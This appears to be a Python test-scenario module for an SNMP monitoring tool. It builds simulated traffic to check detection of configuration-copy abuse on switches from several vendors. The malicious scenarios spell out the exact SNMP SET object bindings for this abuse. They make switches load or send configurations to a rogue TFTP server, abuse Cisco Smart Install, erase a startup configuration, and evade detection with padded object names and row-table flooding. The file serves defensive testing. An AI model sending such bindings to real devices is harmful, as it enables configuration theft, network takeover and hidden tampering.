"""BW03: configurations moved by the objects of other brands, and what hides such an order."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, SiteSpec, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, NETWORK, ROGUE
from bootwarden.scenarios.snmp_rows import force10_loads, force10_saves
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

CREATE_AND_GO = 4
HPE_INET = "1.3.6.1.4.1.11.2.14.11.1.3.9.1"
DIRECTOR = "1.3.6.1.4.1.9.9.725.1"
ROGUE_IP = IPv4Address(ROGUE)


def copied(device: str, file: str | None, server: str | None = ROGUE) -> Notice:
    """The notice of one configuration copy."""
    return Notice("SNMP_Config_Copy", device, server, file)


BRANDS: dict[str, tuple[str, list[snmp.Binding]]] = {
    # Cisco small business and Netgear number Radlan's table under their own enterprises.
    "10.0.1.21": (
        "sb.txt",
        snmp.row("1.3.6.1.4.1.9.6.1.101.87.2.1", 1, {3: 3, 4: ROGUE_IP, 6: "sb.txt", 8: 1, 12: 2, 17: CREATE_AND_GO}),
    ),
    "10.0.1.22": (
        "ng.txt",
        snmp.row("1.3.6.1.4.1.4526.17.87.2.1", 1, {3: 1, 7: 2, 8: 3, 9: ROGUE_IP, 11: "ng.txt", 17: CREATE_AND_GO}),
    ),
    # H3C while it was Huawei-3Com; HP's Foundry switches.
    "10.0.1.23": (
        "h3c.cfg",
        snmp.row("1.3.6.1.4.1.2011.10.2.4.1.2.4.1", 7, {2: 5, 3: 2, 4: "h3c.cfg", 5: ROGUE_IP, 9: CREATE_AND_GO}),
    ),
    "10.0.1.24": (
        "hp9300.cfg",
        [
            ("1.3.6.1.4.1.11.2.3.7.11.12.1.2.1.5.0", ROGUE_IP),
            ("1.3.6.1.4.1.11.2.3.7.11.12.1.2.1.8.0", "hp9300.cfg"),
            ("1.3.6.1.4.1.11.2.3.7.11.12.1.2.1.9.0", 30),
        ],
    ),
    "10.0.1.25": (
        "os9.cfg",
        force10_loads(101, ROGUE, "os9.cfg"),
    ),
    "10.0.1.26": (
        "aos.cfg",
        snmp.row(HPE_INET, 1, {2: 1, 3: ROGUE_IP.packed, 4: "aos.cfg", 9: 2, 13: CREATE_AND_GO, 17: 1, 18: 2}),
    ),
    "10.0.1.27": (
        "exos.cfg",
        snmp.row("1.3.6.1.4.1.1916.1.10.1.2.1", 1, {2: ROGUE_IP, 3: "exos.cfg", 4: 9, 6: 1}),
    ),
}


RULES = {
    "10.0.1.21": 1542006056,
    "10.0.1.22": 1542006060,
    "10.0.1.23": 1542006035,
    "10.0.1.24": 1542006017,
    "10.0.1.25": 1542006072,
    "10.0.1.26": 1542006021,
    "10.0.1.27": 1542006081,
}
RAISED = tuple(("BW03", number, ATTACKER, device) for device, number in RULES.items())


@scenario(
    "BW03",
    "malicious",
    raises=RAISED,
    site=HQ,
    with_site=Expect(tuple(copied(d, f) for d, (f, _) in BRANDS.items())),
)
def bw03_other_brands(wire: Wire) -> None:
    """Cisco SB, Netgear, H3C, HP, Dell, HPE and Extreme devices are each told to load or send a configuration."""
    for device, (_, bindings) in BRANDS.items():
        snmp.Manager(wire, ATTACKER, device, community="hq-rw").set(*bindings)


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, ADMIN, DEVICE)],
    raises_with_site=[("BW03", 1542134031, ADMIN, DEVICE)],
    site=HQ,
    with_site=Expect(
        (copied(DEVICE, "evil-confg"),),
        evidence=(
            {"server": BOOT_SERVER, "verdict": "expected"},
            {
                "server": ROGUE,
                "verdict": "suspicious",
                "detail": "network to running-config by tftp, default community",
            },
        ),
    ),
)
def bw03_two_servers_in_a_row(wire: Wire) -> None:
    """An admin's spoofed row names the declared server in one column and the attacker's in the other."""
    columns = {3: 1, 4: 4, 16: ROGUE_IP.packed, 15: 1, 5: IPv4Address(BOOT_SERVER), 6: "evil-confg", 14: CREATE_AND_GO}
    snmp.Manager(wire, ADMIN, DEVICE).set(*snmp.row(snmp.CONFIG_COPY, "4294967295", columns), answered=False)


@scenario(
    "BW03",
    "malicious",
    raises=[("BW04", 9, ADMIN, "10.0.1.7"), ("BW03", 1542006004, ADMIN, "10.0.1.7")],
    raises_with_site=[("BW03", 1542135004, ADMIN, "10.0.1.7")],
    site=HQ,
    with_site=Expect((copied("10.0.1.7", "evil.conf"),)),
)
def bw03_behind_an_image_url(wire: Wire) -> None:
    """One SET gives a Smart Install director an image URL on the declared server and a configuration's elsewhere."""
    snmp.Manager(wire, ADMIN, "10.0.1.7", community="hq-rw").set(
        (f"{DIRECTOR}.2.1.0", f"tftp://{BOOT_SERVER}/c2960.tar"),
        (f"{DIRECTOR}.2.2.0", f"tftp://{ROGUE}/evil.conf"),
        answered=False,
    )


OPENED = (
    ("BW03", 3, ATTACKER, DEVICE),
    ("BW03", 1542006005, ATTACKER, "10.0.1.7"),
    ("BW03", 1542006026, ATTACKER, "10.0.1.26"),
)


@scenario(
    "BW03",
    "malicious",
    raises=OPENED,
    site=HQ,
    with_site=Expect((copied(DEVICE, None, None), copied("10.0.1.7", None), copied("10.0.1.26", None, None))),
)
def bw03_openings(wire: Wire) -> None:
    """A startup configuration is erased, backups are sent elsewhere, a switch is made to serve its own files."""
    snmp.Manager(wire, ATTACKER, DEVICE, community="hq-rw").set(("1.3.6.1.4.1.9.2.1.54.0", 0))
    snmp.Manager(wire, ATTACKER, "10.0.1.7", community="hq-rw").set((f"{DIRECTOR}.1.7.1.0", f"tftp://{ROGUE}/"))
    snmp.Manager(wire, ATTACKER, "10.0.1.26", community="hq-rw").set(("1.3.6.1.4.1.11.2.14.11.1.3.6.0", 1))


@scenario(
    "BW03",
    "malicious",
    raises=[("BW05", 1542006090, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect((copied(DEVICE, "evil-confg"),)),
)
def bw03_padded_names(wire: Wire) -> None:
    """The names of the objects are spelled longer than BER allows, which agents read all the same."""
    columns = {2: 1, 3: 1, 4: 4, 5: ROGUE_IP, 6: "evil-confg", 14: CREATE_AND_GO}
    snmp.Manager(wire, ATTACKER, DEVICE, community="hq-rw").set_padded(*snmp.row(snmp.CONFIG_COPY, 300, columns))


CROWDED = SiteSpec("crowded", NETWORK, zeek="redef Bootwarden::snmp_max_rows = 2;\n")
"""The table of rows that are being built has little room."""


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, ATTACKER, DEVICE)],
    site=CROWDED,
    with_site=Expect((copied(DEVICE, "evil-confg"),)),
)
def bw03_rows_to_fill_the_table(wire: Wire) -> None:
    """An attacker begins many rows first, so that there is no room for the one that counts."""
    manager = snmp.Manager(wire, ATTACKER, DEVICE)
    for index in range(5):
        manager.set(*snmp.row(snmp.CONFIG_COPY, index + 1, {2: 1}), answered=False)
    columns = {2: 1, 3: 1, 4: 4, 5: ROGUE_IP, 6: "evil-confg", 14: CREATE_AND_GO}
    manager.set(*snmp.row(snmp.CONFIG_COPY, 111, columns), answered=False)


@scenario("BW03", "benign", site=HQ, with_site=Expect(evidence=()))
def bw03_saved_and_read(wire: Wire) -> None:
    """Configurations are saved on the devices themselves, by the same tables, and an HPE row is read."""
    manager = snmp.Manager(wire, "10.0.2.30", DEVICE, community="hq-rw")
    manager.set(("1.3.6.1.4.1.9.2.1.54.0", 1))
    manager.set(*snmp.row(snmp.CONFIG_COPY, 5, {3: 4, 4: 3, 14: CREATE_AND_GO}))
    for table, columns in (
        ("1.3.6.1.4.1.25506.2.4.1.2.4.1", {2: 1, 9: CREATE_AND_GO}),
        ("1.3.6.1.4.1.9.6.1.101.87.2.1", {3: 1, 7: 2, 8: 1, 12: 3, 17: CREATE_AND_GO}),
    ):
        manager.set(*snmp.row(table, 1, columns))
    manager.set(*force10_saves(1))
    manager.get(*snmp.row(HPE_INET, 1, {3: ROGUE_IP.packed, 4: "x", 13: 1}))


@scenario(
    "BW03",
    "benign",
    raises=[("BW03", 1542006029, ADMIN, "10.0.1.26")],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(
        evidence=(
            {
                "device": "10.0.1.26",
                "server": BOOT_SERVER,
                "verdict": "expected",
                "object": "HP-ICF-DOWNLOAD hpicfDownloadInetTable",
                "detail": "device to network by tftp",
            },
        )
    ),
)
def bw03_hpe_backup(wire: Wire) -> None:
    """The management host makes an HPE switch send its configuration to the declared server."""
    columns = {2: 1, 3: IPv4Address(BOOT_SERVER).packed, 4: "aos.cfg", 9: 2, 17: 2, 18: 3, 13: CREATE_AND_GO}
    snmp.Manager(wire, ADMIN, "10.0.1.26", community="hq-rw").set(*snmp.row(HPE_INET, 1, columns))
